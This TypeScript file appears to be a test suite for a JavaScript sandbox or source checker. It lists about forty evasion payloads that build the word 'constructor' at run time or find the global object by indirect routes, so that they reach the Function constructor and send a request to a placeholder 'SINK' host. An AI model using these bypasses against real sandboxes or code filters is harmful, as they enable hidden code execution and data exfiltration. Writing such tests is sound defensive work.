import { type Attack, inEffect } from "./attack"

const leak = "fetch('SINK',{mode:'no-cors'})"
const text = JSON.stringify(leak)
const unchecked = { codes: undefined }
/** A dynamic key that no reading of the source can know. */
const key = 'const k = ["c", "o", "n", "s", "t", "r", "u", "c", "t", "o", "r"].reduce((a, b) => a + b);'

/** Ways round a reading of the source: names made at run time, code hidden in protocols of the language. */
export const trickery: Attack[] = [
  inEffect("reduced key", `${key} [][k][k](${text})()`, unchecked),
  inEffect("key of a cell", `${key} const row = { [k]: 0 }; for (const name in row) (() => {})[name](${text})()`, unchecked),
  inEffect("async constructor by a key", `${key} (async () => {})[k](${text})()`, unchecked),
  inEffect("generator constructor by a key", `${key} (function* () {})[k](${text})().next()`, unchecked),
  inEffect("async generator constructor by a key", `${key} (async function* () {})[k](${text})().next()`, unchecked),
  inEffect("key by charAt", `const s = "constructor!"; const k = s.slice(0, s.length - 1); [][k][k](${text})()`, unchecked),
  inEffect("key by base 36", `const k = (829).toString(36) + "x"; const names = ["constructor"]; [][names[0]][names[0]](${text})(k)`, unchecked),
  inEffect("key by JSON", `const { k } = JSON.parse('{"k":"con\\\\u0073tructor"}'); [][k][k](${text})()`, unchecked),
  inEffect("key by JSON reviver", `JSON.parse('["constructor"]', (name, value) => (typeof value === "string" ? [][value][value](${text})() : value))`, unchecked),
  inEffect("key by a regular expression", `const k = "rotcurtsnoc".replace(/.*/, (s) => [...s].reverse().join("")); [][k][k](${text})()`, unchecked),
  inEffect("key by decodeURIComponent", `const k = decodeURIComponent("%63onstructor"); [][k][k](${text})()`, unchecked),
  inEffect("key by an error", `let k = ""; try { null.constructor } catch (e) { k = /'(c\\w+)'/.exec(e.message)[1] } [][k][k](${text})()`, unchecked),
  inEffect("key by a class name", `class constructor {} const k = constructor.name; [][k][k](${text})()`, unchecked),
  inEffect("key by a label of Intl", `const k = "CONSTRUCTOR".toLocaleLowerCase("en"); [][k][k](${text})()`, unchecked),
  inEffect("key by String.raw", "const k = String.raw`con${\"struct\"}or`; [][k][k](" + text + ")()", unchecked),
  inEffect("key by a Map", `const m = new Map([["k", "constr" + String("uctor")]]); [][m.get("k")][m.get("k")](${text})()`, unchecked),
  inEffect("key by default and destructuring", `const { [["con", "structor"].map(String).join("")]: C } = () => {}; C(${text})()`, unchecked),
  inEffect("key in optional chaining", `${key} []?.[k]?.[k]?.(${text})?.()`, unchecked),
  inEffect("key with a proxy of Reflect", `${key} Reflect.apply(Reflect.get(() => {}, k), null, [${text}])()`),
  inEffect("class that extends a computed base", `${key} class A extends (() => {})[k] { constructor() { super(${text}) } } new A()()`, unchecked),
  inEffect("species", `${key} class A extends Array { static get [Symbol.species]() { return (() => {})[k](${text})() ?? Array } } new A(1).map((x) => x)`, unchecked),
  inEffect("hasInstance", `${key} 1 instanceof { [Symbol.hasInstance]: () => (() => {})[k](${text})() }`, unchecked),
  inEffect("template of a getter", `${key} const o = { get ["x"]() { return (() => {})[k](${text})() } }; String(\`\${o.x}\`)`, unchecked),
  inEffect("setter on assignment", `${key} const o = { set x(v) { (() => {})[k](v)() } }; o.x = ${text}`, unchecked),
  inEffect("default parameter", `${key} const f = (g = (() => {})[k](${text})()) => g; f()`, unchecked),
  inEffect("static block", `${key} class A { static { (() => {})[k](${text})() } }`, unchecked),
  inEffect("comparison of a sort", `${key} [{ toString: () => (() => {})[k](${text})() }, "b"].sort()`, unchecked),
  inEffect("symbol description", `const s = Symbol("constructor"); const k = s.description; [][k][k](${text})()`, unchecked),
  inEffect("async iterator", `${key} (async () => { for await (const x of { [Symbol.asyncIterator]: () => ({ next: async () => ((() => {})[k](${text})(), { done: true }) }) }) x })()`, unchecked),
  inEffect("React's fiber", `const p = document.querySelector("p"); const f = p[Object.keys(p).find((n) => n.startsWith("__reactFiber"))]; (f ? fetch : fetch)("SINK", { mode: "no-cors" })`),
  inEffect("element by a ref", `const p = document.querySelector("p"); let n = p; for (const step of ["parentNode", "parentNode", "parentNode", "parentNode", "parentNode"]) n = n[step] ?? n; n[["default", "View"].join("")].fetch("SINK", { mode: "no-cors" })`),
  inEffect("view of an event", `${key} addEventListener("x", (occurrence) => occurrence.currentTarget.fetch("SINK", { mode: "no-cors" })); dispatchEvent(new Event("x"))`),
  inEffect("global of a timer", `setTimeout(function () { (this ?? globalThis).fetch("SINK", { mode: "no-cors" }) }, 0)`),
  inEffect("call site", `Error.prepareStackTrace = (_, sites) => sites; const sites = new Error().stack; Error.prepareStackTrace = undefined; (sites[0].getFunction?.() ?? globalThis.fetch)("SINK", { mode: "no-cors" })`),
  inEffect("text of a function", `const [k] = /c\\w{10}/.exec(String(class { constructor() {} })); [][k][k](${text})()`, unchecked),
  inEffect("date that converts", `${key} new Date({ valueOf: () => (() => {})[k](${text})() })`, unchecked),
  inEffect("structured clone of a getter", `${key} structuredClone({ get a() { (() => {})[k](${text})(); return 1 } })`, unchecked),
  inEffect("promise of a subclass", `${key} class P extends Promise { constructor(run) { super(run); (() => {})[k](${text})() } } new P(() => {})`, unchecked),
  inEffect("finalizer of a generator", `${key} const g = (function* () { try { yield } finally { (() => {})[k](${text})() } })(); g.next(); g.return()`, unchecked),
  inEffect("comma and void", `${key} void (0, [][k])[k](${text})()`, unchecked),
]
